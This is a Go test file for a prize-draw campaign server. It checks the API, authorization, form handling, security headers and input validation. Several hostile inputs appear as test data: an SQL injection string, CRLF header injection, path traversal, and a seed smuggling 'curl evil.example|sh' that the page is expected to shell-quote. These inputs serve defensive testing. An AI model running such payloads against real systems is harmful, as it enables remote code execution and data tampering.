package serve_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prizegen/prizegen/pkg/campaign"
	"github.com/prizegen/prizegen/pkg/draw"
	"github.com/prizegen/prizegen/pkg/remote"
	"github.com/prizegen/prizegen/pkg/store/storetest"
	"github.com/prizegen/prizegen/pkg/wire"
	"github.com/prizegen/prizegen/serve"
	"github.com/prizegen/prizegen/serve/servertest"
)

// TestPromotionOverHTTP runs a campaign through a core's API client. It checks that the
// results and errors are the same as in process.
func TestPromotionOverHTTP(t *testing.T) {
	storetest.Each(t, func(t *testing.T, address string) {
		s := servertest.Start(t, serve.All, servertest.WithStore(t, address))
		admin, public := s.Admin(t, servertest.Token), s.Admin(t, "")
		ctx := t.Context()

		if _, err := public.Create(ctx, campaign.Plan{Name: "summer"}); !errors.Is(err, wire.ErrForbidden) {
			t.Errorf("create as the public: got error %v, want %v", err, wire.ErrForbidden)
		}
		if _, _, err := s.Admin(t, "a guess").Campaigns(ctx, campaign.CampaignQuery{}); !errors.Is(err, wire.ErrForbidden) {
			t.Errorf("list campaigns with a wrong token: got error %v, want %v", err, wire.ErrForbidden)
		}
		c, err := admin.Create(ctx, campaign.Plan{Name: "summer", Title: "Summer", MaxPlays: 1})
		if err != nil || c.State != campaign.Draft || c.Rules != "generous" || c.TextFormat != "lower4" {
			t.Fatalf("create: got %+v and error %v, want a draft with the deployed formats and rules", c, err)
		}
		if _, err := public.Campaign(ctx, "summer"); !errors.Is(err, campaign.ErrNotFound) {
			t.Errorf("get a draft as the public: got error %v, want %v", err, campaign.ErrNotFound)
		}
		plan := c.Plan()
		plan.Title = "The great summer draw"
		if c, err = admin.Edit(ctx, "summer", c.Version, plan); err != nil || c.Title != plan.Title {
			t.Fatalf("edit: got %+v and error %v, want title %q", c, err, plan.Title)
		}
		if _, err := admin.Edit(ctx, "summer", c.Version-1, plan); !errors.Is(err, campaign.ErrChanged) {
			t.Errorf("edit an old version: got error %v, want %v", err, campaign.ErrChanged)
		}
		if c, err = admin.Open(ctx, "summer"); err != nil || len(c.Commitment) != 64 || c.Seed != "" {
			t.Fatalf("open: got %+v, error %v, want a commitment and no seed", c, err)
		}

		ann := &campaign.Person{FirstName: "Ann", LastName: "Lee", Email: "ann@example.org"}
		first, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: ann, Key: "one"})
		if err != nil || first.Index != 0 || first.Player != "Ann L." || first.Entrant != nil || first.Seed != "" {
			t.Fatalf("play: got %+v and error %v, want draw 0 of Ann L. without private data", first, err)
		}
		if again, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: ann, Key: "one"}); err != nil || again.ID != first.ID {
			t.Errorf("play with the same key: got %+v, error %v, want draw %s", again, err, first.ID)
		}
		if _, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: ann, Key: "two"}); !errors.Is(err, campaign.ErrMaxPlays) {
			t.Errorf("second play: got error %v, want %v", err, campaign.ErrMaxPlays)
		}
		bob := &campaign.Person{FirstName: "Bob", LastName: "Lee"}
		if _, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: bob, Key: "one"}); !errors.Is(err, campaign.ErrKeyReused) {
			t.Errorf("play with another person's key: got error %v, want %v", err, campaign.ErrKeyReused)
		}
		if _, err := public.Play(ctx, campaign.Play{Campaign: "summer", Person: &campaign.Person{FirstName: "Bob"}}); !errors.Is(err, campaign.ErrInvalid) {
			t.Errorf("play without a last name: got error %v, want %v", err, campaign.ErrInvalid)
		}
		if _, err := public.Play(ctx, campaign.Play{Campaign: "winter", Person: bob}); !errors.Is(err, campaign.ErrNotFound) {
			t.Errorf("play a missing campaign: got error %v, want %v", err, campaign.ErrNotFound)
		}
		if _, _, err := public.Draws(ctx, campaign.DrawQuery{Campaign: "summer"}); !errors.Is(err, wire.ErrForbidden) {
			t.Errorf("list draws as the public: got error %v, want %v", err, wire.ErrForbidden)
		}
		draws, _, err := admin.Draws(ctx, campaign.DrawQuery{Campaign: "summer"})
		if err != nil || len(draws) != 1 || draws[0].Entrant == nil || draws[0].Entrant.Email != "ann@example.org" {
			t.Errorf("list draws: got %+v, error %v, want the draw of ann@example.org", draws, err)
		}
		voided, err := admin.Void(ctx, first.ID, "a test of the staff")
		if err != nil || voided.Void == nil || voided.Void.Note != "a test of the staff" {
			t.Errorf("void: got %+v, error %v, want a void draw with its reason", voided, err)
		}
		if d, err := public.Draw(ctx, first.ID); err != nil || d.Void == nil || d.Void.Note != "" || d.Entrant != nil {
			t.Errorf("get a void draw as the public: got %+v, error %v, want no reason and no entrant", d, err)
		}
		checkEntrants(t, admin)

		if c, err = admin.Close(ctx, "summer"); err != nil || c.Seed == "" {
			t.Fatalf("close: got %+v, error %v, want the seed", c, err)
		}
		var file bytes.Buffer
		if err := public.Export(ctx, "summer", &file, campaign.ExportOptions{}); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(file.String(), "example.org") || strings.Contains(file.String(), "staff") {
			t.Error("export for the public: got personal data, want none")
		}
		report, err := campaign.Verify(ctx, draw.Local{}, &file, nil, func(f draw.Finding) { t.Errorf("verify: got finding %+v, want none", f) })
		if err != nil || report.Draws != 1 || !report.SeedKnown {
			t.Errorf("verify: got %+v and error %v, want 1 draw with a known seed", report, err)
		}
		if err := public.Export(ctx, "summer", &file, campaign.ExportOptions{Entrants: true}); !errors.Is(err, wire.ErrForbidden) {
			t.Errorf("export entrants as the public: got error %v, want %v", err, wire.ErrForbidden)
		}
		changes, err := admin.Changes(ctx, campaign.ChangeQuery{Subject: "summer"})
		if err != nil || len(changes) != 4 || changes[0].Action != "campaign.close" || changes[0].Actor != "api" {
			t.Errorf("changes: got %+v and error %v, want 4 changes, the newest campaign.close", changes, err)
		}
	})
}

func checkEntrants(t *testing.T, admin *remote.Admin) {
	t.Helper()
	ctx := t.Context()
	added, err := admin.ImportEntrants(ctx, []campaign.Person{{FirstName: "Zoë", LastName: "Émile"}, {FirstName: "小龙", LastName: "李"}, {FirstName: "🎁", LastName: "אבג"}})
	if err != nil || added != 3 {
		t.Fatalf("import: got %d, error %v, want 3", added, err)
	}
	_, err = admin.ImportEntrants(ctx, []campaign.Person{{FirstName: "Cy", LastName: "Lee"}, {FirstName: "Di"}})
	var wrong *campaign.ImportError
	if !errors.As(err, &wrong) || len(wrong.Bad) != 1 || wrong.Bad[1] == nil || !strings.Contains(wrong.Bad[1].Error(), "last_name") {
		t.Errorf("invalid import: got %+v and error %v, want an error for the missing last_name of the second person", wrong, err)
	}
	list, _, err := admin.Entrants(ctx, campaign.EntrantQuery{Search: "éM"})
	if err != nil || len(list) != 1 || list[0].FirstName != "Zoë" {
		t.Fatalf("search for éM: got %+v, error %v, want Zoë", list, err)
	}
	e, err := admin.EditEntrant(ctx, list[0].ID, campaign.Person{FirstName: "Zoe", LastName: "Émile", Email: "zoe@example.org"})
	if err != nil || e.Email != "zoe@example.org" {
		t.Errorf("edit: got %+v, error %v, want zoe@example.org", e, err)
	}
	if err := admin.DeleteEntrant(ctx, e.ID); err != nil {
		t.Error(err)
	}
	if _, err := admin.Entrant(ctx, e.ID); !errors.Is(err, campaign.ErrNotFound) {
		t.Errorf("get an erased entrant: got error %v, want %v", err, campaign.ErrNotFound)
	}
}

// TestBadPlays sends invalid plays, and checks that none is stored.
func TestBadPlays(t *testing.T) {
	s := servertest.Start(t, serve.All, servertest.WithStore(t, storetest.File(t)))
	admin := s.Admin(t, servertest.Token)
	if _, err := admin.Create(t.Context(), campaign.Plan{Name: "summer", RequireEmail: true}); err != nil {
		t.Fatal(err)
	}
	if _, err := admin.Open(t.Context(), "summer"); err != nil {
		t.Fatal(err)
	}
	ann := `"first_name":"Ann","last_name":"Lee","email":"ann@example.org"`
	for name, test := range map[string]struct {
		body    string
		headers []string
		status  int
		want    string
	}{
		"nobody":               {`{"campaign":"summer"}`, nil, 422, "entrant: missing"},
		"an id":                {`{"campaign":"summer","entrant":{"id":1}}`, nil, 422, "entrant: missing"},
		"no email":             {`{"campaign":"summer","entrant":{"first_name":"Ann","last_name":"Lee"}}`, nil, 422, "email: missing"},
		"a long name":          {`{"campaign":"summer","entrant":{"first_name":"` + strings.Repeat("é", 101) + `","last_name":"Lee","email":"a@b.c"}}`, nil, 422, "got 101"},
		"a hidden name":        {`{"campaign":"summer","entrant":{"first_name":"A\u202enn","last_name":"Lee","email":"a@b.c"}}`, nil, 422, "U+202E"},
		"a zero byte":          {`{"campaign":"summer","entrant":{"first_name":"A\u0000","last_name":"Lee","email":"a@b.c"}}`, nil, 422, "U+0000"},
		"a header":             {`{"campaign":"summer","entrant":{"first_name":"Ann","last_name":"Lee","email":"a@b.c\r\nX: y"}}`, nil, 422, "not an email address"},
		"a seed":               {`{"campaign":"summer","seed":"42","entrant":{` + ann + `}}`, nil, 422, "cannot be used with campaign"},
		"no such campaign":     {`{"campaign":"winter","entrant":{` + ann + `}}`, nil, 404, "there is no campaign"},
		"a malformed campaign": {`{"campaign":"../summer","entrant":{` + ann + `}}`, nil, 404, "there is no campaign"},
		"an empty key":         {`{"campaign":"summer","entrant":{` + ann + `}}`, []string{"Idempotency-Key", `""`}, 400, "Idempotency-Key"},
		"an open key":          {`{"campaign":"summer","entrant":{` + ann + `}}`, []string{"Idempotency-Key", `"abc`}, 400, "missing closing quote"},
		"a long key":           {`{"campaign":"summer","entrant":{` + ann + `}}`, []string{"Idempotency-Key", strings.Repeat("k", 256)}, 400, "1 to 255"},
		"a wrong token":        {`{"campaign":"summer","entrant":{` + ann + `}}`, []string{"Authorization", "Bearer x"}, 401, "the token is wrong"},
	} {
		t.Run(name, func(t *testing.T) {
			answer, text := s.Send(t, "POST", "/v1/draws", test.body, test.headers...)
			var p wire.Problem
			if err := json.Unmarshal([]byte(text), &p); err != nil || answer.StatusCode != test.status || !strings.Contains(p.Detail, test.want) {
				t.Errorf("got %s %s, want status %d with %q", answer.Status, text, test.status, test.want)
			}
		})
	}
	if c, err := admin.Campaign(t.Context(), "summer"); err != nil || c.Plays != 0 {
		t.Errorf("got %d plays, error %v, want 0", c.Plays, err)
	}
}

// TestKeysQuotedOrBare checks that a once-only key leads to the same draw with and without
// quotes.
func TestKeysQuotedOrBare(t *testing.T) {
	s := servertest.Start(t, serve.All, servertest.WithStore(t, storetest.File(t)))
	s.OpenCampaign(t, "summer")
	body := `{"campaign":"summer","entrant":{"first_name":"Ann","last_name":"Lee"}}`
	first, one := s.Send(t, "POST", "/v1/draws", body, "Idempotency-Key", `"abc"`)
	second, two := s.Send(t, "POST", "/v1/draws", body, "Idempotency-Key", "abc")
	if first.StatusCode != http.StatusCreated || second.StatusCode != http.StatusCreated || one != two {
		t.Errorf("got %s %s and %s %s, want the same draw twice", first.Status, one, second.Status, two)
	}
	where := first.Header.Get("Location")
	if answer, _ := s.Send(t, "GET", where, ""); answer.StatusCode != http.StatusOK {
		t.Errorf("%s: got %s, want 200", where, answer.Status)
	}
	guess := where[:len(where)-1] + string(rune('a'+('z'-where[len(where)-1])%2))
	if answer, _ := s.Send(t, "GET", guess, ""); guess != where && answer.StatusCode != http.StatusNotFound {
		t.Errorf("guess %s: got %s, want 404", guess, answer.Status)
	}
}

// TestPlayInABrowserWithoutScripts plays with a client that only stores cookies. It checks
// that a double click, the Back button and a second tab do not make another play.
func TestPlayInABrowserWithoutScripts(t *testing.T) {
	s := servertest.Start(t, serve.All, servertest.WithStore(t, storetest.File(t)))
	s.OpenCampaign(t, "summer")
	page, body := s.Send(t, "GET", "/c/summer", "")
	cookie, _, _ := strings.Cut(page.Header.Get("Set-Cookie"), ";")
	_, once, _ := strings.Cut(cookie, "=")
	if page.StatusCode != http.StatusOK || len(once) != 26 || !strings.Contains(body, once) {
		t.Fatalf("page: got %s with cookie %q, want a key in the cookie and the form:\n%s", page.Status, cookie, body)
	}
	post := func(path string, form url.Values, headers ...string) (servertest.Response, string) {
		return s.Send(t, "POST", path, form.Encode(), append([]string{"Content-Type", "application/x-www-form-urlencoded", "Cookie", cookie}, headers...)...)
	}
	form := url.Values{"once": {once}, "first_name": {`<b>"Ann"</b>`}, "last_name": {"'); DROP TABLE draws; --"}}
	first, _ := post("/c/summer/play", form)
	where := first.Header.Get("Location")
	if first.StatusCode != http.StatusSeeOther || !strings.HasPrefix(where, "/d/summer-0-") {
		t.Fatalf("got %s to %q, want a redirect to the draw", first.Status, where)
	}
	if second, _ := post("/c/summer/play", form); second.Header.Get("Location") != where {
		t.Errorf("double click: got redirect to %q, want %q", second.Header.Get("Location"), where)
	}
	form.Set("first_name", "Bob")
	if other, text := post("/c/summer/play", form); other.StatusCode != http.StatusConflict || strings.Contains(text, where) {
		t.Errorf("other names in a second tab: got %s with %s, want 409 without the draw", other.Status, text)
	}
	if _, text := s.Send(t, "GET", "/c/summer", "", "Cookie", cookie); !strings.Contains(text, "You have played") || !strings.Contains(text, where) {
		t.Errorf("page after a play: got %s, want a link to %s", text, where)
	}
	if result, text := s.Send(t, "GET", where, ""); result.StatusCode != http.StatusOK || !strings.Contains(text, "Your chances") || strings.Contains(text, "<b>") {
		t.Errorf("result: got %s %s, want chances and escaped names", result.Status, text)
	}
	again, _ := post("/c/summer/again", url.Values{})
	if key, _, _ := strings.Cut(again.Header.Get("Set-Cookie"), ";"); key == cookie || key == "" {
		t.Errorf("next play: got cookie %q, want a new one", key)
	}
	for _, origin := range []string{"https://evil.example", "null"} {
		if answer, _ := post("/c/summer/play", form, "Origin", origin); answer.StatusCode != http.StatusForbidden {
			t.Errorf("form from %s: got %s, want 403", origin, answer.Status)
		}
	}
	cookie = "none=" // as from a browser without cookies
	wrong, text := post("/c/summer/play", url.Values{"once": {strings.Repeat("a", 26)}, "first_name": {"Ann"}})
	if wrong.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(text, `aria-invalid="true"`) || !strings.Contains(text, `value="Ann"`) {
		t.Errorf("form without a last name: got %s %s, want the form with an error", wrong.Status, text)
	}
	if c, err := s.Admin(t, servertest.Token).Campaign(t.Context(), "summer"); err != nil || c.Plays != 1 {
		t.Errorf("got %d plays, error %v, want 1", c.Plays, err)
	}
}

// TestEveryPageIsGuarded checks the security headers of all pages, and that their HTML
// contains no inline code.
func TestEveryPageIsGuarded(t *testing.T) {
	s := servertest.Start(t, serve.All, servertest.WithStore(t, storetest.File(t)))
	s.OpenCampaign(t, "summer")
	s.OpenCampaign(t, "winter")
	d, err := s.Admin(t, servertest.Token).Play(t.Context(), campaign.Play{Campaign: "summer", Person: &campaign.Person{FirstName: "Ann", LastName: "Lee"}})
	if err != nil {
		t.Fatal(err)
	}
	for path, status := range map[string]int{
		"/": 200, "/campaigns": 200, "/try": 200, "/try/42": 200, "/c/summer": 200, "/c/summer/winners": 200, "/c/summer/odds": 200, "/c/summer/fairness": 200,
		"/c/summer/live": 200, "/d/" + d.ID: 200, "/c/nothing": 404, "/d/summer-0-aaaaaaaaaaaaaaaa": 404, "/static/nothing.css": 404,
		"/static/..%2fsite.go": 404, "/c/summer/winners?before=x": 422,
	} {
		answer, text := s.Send(t, "GET", path, "")
		if answer.StatusCode != status {
			t.Errorf("%s: got %s, want %d", path, answer.Status, status)
		}
		for name, want := range map[string]string{"Content-Security-Policy": "default-src 'none'", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "same-origin"} {
			if !strings.Contains(answer.Header.Get(name), want) {
				t.Errorf("%s: got %s %q, want %q in it", path, name, answer.Header.Get(name), want)
			}
		}
		for _, bad := range []string{" style=", "<style", " onclick", "javascript:", `="http://`, "<script>"} {
			if strings.Contains(strings.ReplaceAll(text, "http://www.w3.org", ""), bad) {
				t.Errorf("%s: the page contains %q, want none", path, bad)
			}
		}
	}
	if c, err := s.Admin(t, servertest.Token).Campaign(t.Context(), "summer"); err != nil || c.Plays != 1 {
		t.Errorf("plays after requesting all pages: got %d and error %v, want 1", c.Plays, err)
	}
}

// TestChangesInPart changes different parts of a campaign concurrently. It checks that no
// change undoes another.
func TestChangesInPart(t *testing.T) {
	s := servertest.Start(t, serve.All, servertest.WithStore(t, storetest.File(t)))
	admin := s.Admin(t, servertest.Token)
	ends := time.Date(2099, 1, 2, 3, 4, 5, 0, time.UTC)
	if _, err := admin.Create(t.Context(), campaign.Plan{Name: "summer", ClosesAt: &ends}); err != nil {
		t.Fatal(err)
	}
	change := func(body string) int {
		answer, _ := s.Send(t, http.MethodPatch, "/v1/campaigns/summer", body, "Authorization", "Bearer "+servertest.Token)
		return answer.StatusCode
	}
	if status := change(`{"state":"open","closes_at":"2098-01-01T00:00:00Z"}`); status != http.StatusUnprocessableEntity {
		t.Errorf("open and change in one request: got %d, want 422", status)
	}
	var changing sync.WaitGroup
	for _, field := range []string{`"title":"Summer!"`, `"max_plays":7`} {
		changing.Go(func() {
			status := http.StatusConflict
			for range 50 {
				if status = change("{" + field + "}"); status != http.StatusConflict {
					break
				}
			}
			if status != http.StatusOK {
				t.Errorf("change %s: got %d, want 200", field, status)
			}
		})
	}
	changing.Wait()
	c, err := admin.Campaign(t.Context(), "summer")
	if err != nil || c.State != campaign.Draft || c.Title != "Summer!" || c.MaxPlays != 7 || !c.ClosesAt.Equal(ends) {
		t.Errorf("got %+v, error %v, want a draft with both changes", c, err)
	}
	if status := change(`{"state":"open"}`); status != http.StatusOK {
		t.Errorf("open: got %d, want 200", status)
	}
}

// TestEndedCampaignsAreFound checks that links on the site lead to closed campaigns.
func TestEndedCampaignsAreFound(t *testing.T) {
	s := servertest.Start(t, serve.All, servertest.WithStore(t, storetest.File(t)))
	s.OpenCampaign(t, "summer")
	if _, err := s.Admin(t, servertest.Token).Close(t.Context(), "summer"); err != nil {
		t.Fatal(err)
	}
	if _, text := s.Send(t, http.MethodGet, "/", ""); !strings.Contains(text, `href="/campaigns"`) {
		t.Errorf("home page: got no link to /campaigns:\n%s", text)
	}
	answer, text := s.Send(t, http.MethodGet, "/campaigns", "")
	if answer.StatusCode != http.StatusOK || !strings.Contains(text, `href="/c/summer/winners"`) || !strings.Contains(text, `href="/c/summer/fairness"`) {
		t.Errorf("list of campaigns: got %s, want links to the winners and the fairness page:\n%s", answer.Status, text)
	}
}

// TestCommandsAreSafeToCopy checks that commands on pages quote seeds that a shell would
// otherwise interpret.
func TestCommandsAreSafeToCopy(t *testing.T) {
	s := servertest.Start(t, serve.All)
	for path, want := range map[string]string{
		"/try/42":                          "prizegen draw --seed 42<",
		"/try/42;curl%20evil.example%7Csh": "prizegen draw --seed &#39;42;curl evil.example|sh&#39;<",
		"/try/it's":                        `prizegen draw --seed &#39;it&#39;\&#39;&#39;s&#39;<`,
	} {
		if _, text := s.Send(t, http.MethodGet, path, ""); !strings.Contains(text, want) {
			t.Errorf("%s: got a page without %q:\n%s", path, want, text)
		}
	}
}
